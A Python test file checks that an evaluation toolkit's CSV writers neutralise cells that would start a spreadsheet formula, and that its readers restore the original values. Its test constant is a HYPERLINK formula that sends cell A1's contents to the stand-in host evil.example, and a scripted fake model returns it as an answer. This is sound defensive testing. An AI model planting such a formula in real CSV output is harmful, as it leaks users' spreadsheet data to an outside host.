"""Faults, round three, class 4: CSV cells that cannot start a formula (issue 41).

A model answer beginning with ``=HYPERLINK(...)`` was written raw into ``sheet.csv``,
``answers.csv`` and ``population.csv``, and qids likewise into ``per_query_retrieval.csv``, all
files the README suggests opening in a spreadsheet. ``core.csv_cells`` (OWASP's rule) is now
applied by every such writer; each file is read back here with the ``csv`` module (what a
spreadsheet sees) and with the project's own readers (which restore exactly what was written).
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from chunklab_core.audit.sheet_file import SheetFile
from chunklab_core.audit.sheets import read_key, read_sheet, write_key, write_sheet_rows
from chunklab_core.core.csv_cells import FORMULA_STARTS, neutral_cell, restored_cell
from chunklab_core.evaluators import cli as evaluate_cli

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
VALUES = [ATTACK, "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "'=already", "'plain", "''", "'", "plain", "", "-"]
IN_FILES = [v for v in VALUES if v != "\rx"]  # a lone CR inside a cell is a line break to the sheet reader


def raw_cells(path):
    """Every cell of the file as a spreadsheet would read it."""
    text = path.read_bytes().decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_no_formula(path):
    bad = [c for c in raw_cells(path) if c[:1] in FORMULA_STARTS]
    assert not bad, f"{path.name}: cells that start a formula: {bad[:3]}"


def test_the_rule_by_hand_and_its_inverse():
    assert neutral_cell(ATTACK) == "'" + ATTACK and neutral_cell("plain") == "plain"
    assert neutral_cell("'plain") == "'plain"  # a quote not before a trigger: left alone, and not undone
    assert neutral_cell("'=already") == "''=already" and neutral_cell(-2.5) == -2.5 and neutral_cell("") == ""
    for value in VALUES:
        assert restored_cell(neutral_cell(value)) == value
        assert neutral_cell(value)[:1] not in FORMULA_STARTS


def test_sheet_and_key_are_neutralised_and_read_back_exactly(tmp_path):
    sheet = tmp_path / "sheet.csv"
    rows = [{"item_id": f"A{i}", "question": "q", "reference": "r", "answer": value, "passage": value}
            for i, value in enumerate(IN_FILES)]
    write_sheet_rows(sheet, list(rows[0]), rows)
    assert_no_formula(sheet)
    assert [r["answer"] for r in read_sheet(sheet)[1]] == IN_FILES
    graded = SheetFile.read(sheet)  # the graders' reader and writer
    assert [r["answer"] for r in graded.rows] == IN_FILES
    graded.rows[0]["note"] = "=1+1"
    graded.fieldnames.append("note")
    graded.save()
    assert_no_formula(sheet)
    assert SheetFile.read(sheet).rows[0]["note"] == "=1+1"
    import pandas as pd

    key = tmp_path / "key.csv"
    write_key(pd.DataFrame({"item_id": ["A0", "A1"], "qid": [ATTACK, "-x"]}), key)
    assert_no_formula(key)
    assert read_key(key)["qid"].tolist() == [ATTACK, "-x"]


def test_scorecard_csvs_neutralise_qids(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    records = tmp_path / "r.jsonl"
    records.write_text("".join(json.dumps({"qid": q, "gold_ids": ["c0"], "retrieved_ids": ["c0", "c1"]}) + "\n"
                               for q in (ATTACK, "-1", "@x", "ok")), encoding="utf-8")
    assert evaluate_cli.main([str(records), "--out", "card", "--resamples", "20"]) == 0
    written = sorted((tmp_path / "card").glob("*.csv"))
    assert any(p.name.startswith("per_query_") for p in written)
    for path in written:
        assert_no_formula(path)
    per_query = next(p for p in written if p.name.startswith("per_query_"))
    assert "'" + ATTACK in raw_cells(per_query)


def test_own_answers_population_and_sheet_are_neutralised(tmp_path, monkeypatch, capsys):
    from chunklab_core.llm import wiring
    from chunklab_core.llm.testing import ScriptedLLM
    from chunklab_core.own.audit import audit_paths
    from chunklab_core.own.cli import main

    from test_own_answers import reply, run_answers

    def evil(messages, schema, options):
        return ATTACK if schema is None else reply(messages, schema, options)

    monkeypatch.setattr(wiring, "make_backend", lambda backend, model, *a, **k: ScriptedLLM(evil, model=model))
    out = tmp_path / "answers"
    assert run_answers(out, "--questions", "3") == 0
    for name in ("answers.csv", "population.csv"):
        assert_no_formula(out / name)
        assert "'" + ATTACK in raw_cells(out / name)
    assert main(["audit", "draw", "--answers", str(out), "--n", "6"]) == 0
    paths = audit_paths(out)
    for name in ("sheet", "key", "population"):
        assert_no_formula(paths[name])
    assert ATTACK in [r["answer"] for r in SheetFile.read(paths["sheet"]).rows]  # read back as written
